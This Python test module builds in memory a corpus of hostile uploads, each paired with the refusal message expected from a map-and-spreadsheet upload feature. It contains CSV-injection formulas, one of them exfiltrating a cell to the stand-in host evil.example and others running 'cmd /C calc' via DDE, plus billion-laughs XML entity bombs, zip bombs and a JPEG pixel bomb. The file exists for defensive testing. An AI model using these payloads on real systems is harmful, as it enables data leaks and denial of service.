"""The hostile corpus: every file built in memory, none stored in the repository.

:data:`REFUSED` holds the files an upload must refuse, each with a fragment of the message
it must give; :func:`formula_csv` and :func:`records_csv` build files that must be read and
stay harmless. Zip bombs are assembled from one compressed MiB of zeros repeated (a deflate
stream flushed with ``Z_FULL_FLUSH`` starts afresh, so its blocks can be concatenated): a
1 GiB bomb costs a few milliseconds to build, and really does inflate to 1 GiB.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import openpyxl
from PIL import Image

KML_NS = b'<kml xmlns="http://www.opengis.net/kml/2.2">'
GPX_ROOT = b'<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
#: The header of the CSV files read: the names the upload recognises without asking.
HEADER = ["Vĩ độ", "Kinh độ", "Thời gian", "Loại vi phạm", "Địa chỉ", "Căn cứ pháp lý"]
#: Cells a spreadsheet would run as formulas (CSV injection), one per row.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    '=DDE("cmd";"/C calc";"!A0")',
)
MIB = 2**20
_ZEROS_BLOCK = MIB


@dataclass(frozen=True)
class Hostile:
    """A file an upload must refuse: its name, its bytes, and a fragment of the refusal."""

    name: str
    build: Callable[[], bytes]
    expect: str
    #: the reader's peak memory growth allowed, in MiB (see the test module)
    memory_mib: float = 32.0


# -- text -------------------------------------------------------------------------------------


def records_csv(rows: list[list[str]], *, header: list[str] = HEADER) -> bytes:
    """A UTF-8 CSV of ``rows`` under ``header``, as Excel's 'CSV UTF-8' writes it."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *rows])
    return out.getvalue().encode("utf-8")


def record(i: int, *, address: str = "", basis: str = "") -> list[str]:
    """The ``i``-th of a set of records in Kim Liên (the demo ward), in November 2024 (before
    the demo's records), each 40 m and a day or an hour from the others: no two are alike."""
    return [
        f"{21.0020 + (i % 20) * 0.0004:.6f}",
        f"{105.8260 + (i // 20 % 20) * 0.0004:.6f}",
        f"{1 + i % 28:02d}/11/2024 {8 + i // 28 % 10:02d}:00",
        "Xả rác",
        address or f"số {i} Phố Thử Nghiệm",
        basis,
    ]


def formula_csv() -> bytes:
    """One record per formula, in the address and the legal basis."""
    return records_csv([record(i, address=f, basis=f) for i, f in enumerate(FORMULAS)])


def wide_csv() -> bytes:
    """A header of 10,000 named columns over 300 rows (15 MB)."""
    header = [f"cột {j}" for j in range(10_000)]
    return records_csv([[str(j) for j in range(10_000)] for _ in range(300)], header=header)


def quoted_csv() -> bytes:
    """A line of 21,000 cells opening quotes: csv.Sniffer takes quadratic time on it."""
    return b"a,b\n" + b',"a' * 21_000 + b"\n" + b"1,2\n"


def nul_csv() -> bytes:
    """A good CSV with NUL bytes past the first 64 KiB that format sniffing looks at."""
    good = records_csv([record(i) for i in range(2_000)])
    assert len(good) > 65_536
    return good + "21.006,105.833,\x00\x00,Xả rác,x,\r\n".encode()


def long_line_csv(size: int = 100 * 10**6) -> bytes:
    """A header, then one line of ``size`` bytes (no temporary copy: joined 1 MiB parts)."""
    part = b"x" * MIB
    whole, rest = divmod(size, MIB)
    return b"".join([b"a,b\n", *([part] * whole), part[:rest], b"\n"])


def broken_utf8_csv(damage: bytes) -> bytes:
    """Vietnamese UTF-8 rows with ``damage`` (bytes that are not UTF-8) on line 3."""
    rows = [record(i, address="Ngõ 4 Kim Liên, phường Kim Liên") for i in range(8)]
    lines = records_csv(rows).split(b"\r\n")
    lines[2] = lines[2].replace(b" Kim", b" " + damage + b"Kim", 1)
    return b"\r\n".join(lines)


def truncated_utf8_csv() -> bytes:
    """Cut in the middle of the last letter, "ệ" (line 7): a transfer that stopped short."""
    rows = [record(i, address="Phố Nguyễn Lương Bằng, Kim Liên, Đống Đa") for i in range(6)]
    return records_csv(rows).rstrip(b"\r\n") + "ệ".encode()[:-1]


# -- XML --------------------------------------------------------------------------------------

_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE %s [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def laughs_kml() -> bytes:
    """Billion laughs: ten nested entities that expand to 3 GB of "lol"."""
    body = b"<Placemark><name>&lol9;</name><Point><coordinates>105.8,21.0</coordinates></Point>"
    return _LAUGHS % b"kml" + KML_NS + body + b"</Placemark></kml>"


def laughs_gpx() -> bytes:
    point = b'<wpt lat="21.006" lon="105.833"><name>&lol9;</name></wpt>'
    return _LAUGHS % b"gpx" + GPX_ROOT + point + b"</gpx>"


def quadratic_kml() -> bytes:
    """Quadratic blowup: one 50 KB entity referenced 2,000 times (no nesting to detect)."""
    entity = b'<!DOCTYPE kml [<!ENTITY a "' + b"a" * 50_000 + b'">]>'
    return entity + KML_NS + b"<Placemark><name>" + b"&a;" * 2_000 + b"</name></Placemark></kml>"


def laughs_kmz() -> bytes:
    """The billion laughs inside a KMZ (Google Earth's zipped KML)."""
    return _zip([("doc.kml", laughs_kml())])


def laughs_xlsx() -> bytes:
    """A workbook whose sheet declares the billion-laughs entities."""
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    return _zip([*_workbook_parts(), ("xl/worksheets/sheet1.xml", _LAUGHS % b"worksheet" + sheet)])


def deep_kml(depth: int = 100_000) -> bytes:
    """Elements nested 100,000 deep (0.7 MiB): no entity, just depth."""
    return KML_NS + b"<Folder>" * depth + b"</Folder>" * depth + b"</kml>"


def crowded_placemark_kml(children: int = 200_000) -> bytes:
    """One placemark of 200,000 empty elements, which a reader keeps whole until its end."""
    return KML_NS + b"<Placemark>" + b"<a/>" * children + b"</Placemark></kml>"


def flood_gpx(elements: int = 400_000) -> bytes:
    """400,000 empty elements beside any point: each must be freed once read."""
    return b'<?xml version="1.0"?>' + GPX_ROOT + b"<x/>" * elements + b"</gpx>"


def wide_kml(columns: int = 10_000) -> bytes:
    """One placemark with 10,000 ExtendedData fields (10,000 columns)."""
    data = b"".join(b'<Data name="c%d"><value>1</value></Data>' % j for j in range(columns))
    point = b"<Point><coordinates>105.833,21.006</coordinates></Point>"
    placemark = b"<Placemark><ExtendedData>" + data + b"</ExtendedData>" + point + b"</Placemark>"
    return KML_NS + placemark + b"</kml>"


# -- zip --------------------------------------------------------------------------------------


def zip_bomb_xlsx() -> bytes:
    """A workbook whose sheet inflates to 1 GiB of zeros (about 1 MB on disk)."""
    return _zip([*_workbook_parts(), _Member("xl/worksheets/sheet1.xml", *_zeros(1024))])


def zip_bomb_kmz() -> bytes:
    """A KMZ whose doc.kml inflates 1,000 times (100 MiB of zeros from 100 KB)."""
    return _zip([_Member("doc.kml", *_zeros(100))])


def overlapping_kmz() -> bytes:
    """600 directory entries that all point at one 1 MiB member (a non-recursive bomb)."""
    stream, size, crc = _zeros(1)
    return _zip([_Member(f"{i}.kml", stream, size, crc) for i in range(600)], overlap=True)


def lying_xlsx() -> bytes:
    """A sheet declaring 4 KiB that would inflate to 256 MiB: the reader stops at 4 KiB."""
    stream, _, _ = _zeros(256)
    sheet = _Member("xl/worksheets/sheet1.xml", stream, 4096, zlib.crc32(bytes(4096)))
    return _zip([*_workbook_parts(), sheet])


# -- images -----------------------------------------------------------------------------------


def jpeg_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A real 16 × 16 JPEG whose frame header declares ``width`` × ``height`` pixels."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 30, 30)).save(out, format="JPEG")
    data = out.getvalue()
    sof = data.index(b"\xff\xc0")
    return data[: sof + 5] + struct.pack(">HH", height, width) + data[sof + 9 :]


# -- the corpus -------------------------------------------------------------------------------

REFUSED: dict[str, Hostile] = {
    h.name: h
    for h in (
        Hostile("bomb.kml", laughs_kml, "declares a DTD or entities"),
        Hostile("bomb.gpx", laughs_gpx, "declares a DTD or entities"),
        Hostile("quadratic.kml", quadratic_kml, "declares a DTD or entities"),
        Hostile("bomb-inside.kmz", laughs_kmz, "declares a DTD or entities"),
        Hostile("bomb-sheet.xlsx", laughs_xlsx, "could not be opened as an Excel workbook"),
        Hostile("deep.kml", deep_kml, "nest more than 64 deep"),
        Hostile("crowded.kml", crowded_placemark_kml, "holds more than 100,000 elements"),
        # 400,000 elements kept instead of freed take 40 MiB; freed, 7 MiB
        Hostile("flood.gpx", flood_gpx, "no waypoints, routes or track points", memory_mib=16),
        Hostile("wide.kml", wide_kml, "10,004 columns, more than the 2,000 allowed"),
        Hostile("zip-bomb.xlsx", zip_bomb_xlsx, "would unpack to 1,024 MiB"),
        Hostile("zip-bomb.kmz", zip_bomb_kmz, "(a zip bomb?)"),
        Hostile("overlap.kmz", overlapping_kmz, "would unpack to 600 MiB"),
        Hostile("lying.xlsx", lying_xlsx, "could not be opened as an Excel workbook"),
        # decoded, its Vietnamese takes 2 bytes a character (30 MiB); parsed, 100 MiB more
        Hostile("wide.csv", wide_csv, "10,000 columns, more than the 2,000 allowed", memory_mib=64),
        Hostile("quotes.csv", quoted_csv, "10,500 columns, more than the 2,000 allowed"),
        Hostile("nul.csv", nul_csv, "contains NUL bytes"),
        Hostile("nul-start.csv", lambda: b"\x00" + records_csv([record(1)]), "a binary file"),
        Hostile("invalid-byte.csv", lambda: broken_utf8_csv(b"\xe9"), "not UTF-8 on line 3"),
        Hostile("overlong.csv", lambda: broken_utf8_csv(b"\xc0\xaf"), "not UTF-8 on line 3"),
        Hostile("surrogate.csv", lambda: broken_utf8_csv(b"\xed\xa0\x80"), "not UTF-8 on line 3"),
        Hostile("truncated.csv", truncated_utf8_csv, "not UTF-8 on line 7"),
        Hostile("bomb.jpg", jpeg_bomb, "declares 50,000 × 50,000 pixels"),
    )
}


# -- zip writing --------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Member:
    name: str
    stream: bytes  # raw deflate
    size: int  # the size declared (the stream may inflate to more)
    crc: int


@cache
def _zeros(mib: int) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``mib`` MiB of zeros, its size and its CRC-32."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(_ZEROS_BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    zeros = bytes(_ZEROS_BLOCK)
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    # b"\x03\x00": an empty final block with fixed Huffman codes, which ends the stream
    return block * mib + b"\x03\x00", mib * _ZEROS_BLOCK, crc


def _zip(members: list[tuple[str, bytes] | _Member], *, overlap: bool = False) -> bytes:
    """A zip of deflated members; ``overlap`` points every directory entry at the first."""
    out = io.BytesIO()
    central = []
    for member in members:
        if not isinstance(member, _Member):
            name, data = member
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            stream = compressor.compress(data) + compressor.flush()
            member = _Member(name, stream, len(data), zlib.crc32(data))
        encoded = member.name.encode()
        fields = (8, 0, 0x21, member.crc, len(member.stream), member.size, len(encoded))
        if overlap and central:
            offset = central[0][1]
        else:
            offset = out.tell()
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, *fields, 0) + encoded)
            out.write(member.stream)
        central.append((encoded, offset, fields))
    start = out.tell()
    for encoded, offset, fields in central:
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, *fields, 0, 0, 0, 0,
                              0, offset) + encoded)  # fmt: skip
    size = out.tell() - start
    count = len(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, start, 0))
    return out.getvalue()


def _workbook_parts() -> list[tuple[str, bytes]]:
    """The parts of a real one-sheet workbook (openpyxl's), but its sheet."""
    book = openpyxl.Workbook()
    book.active.append(["a", "b"])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        return [
            (info.filename, archive.read(info))
            for info in archive.infolist()
            if info.filename != "xl/worksheets/sheet1.xml"
        ]
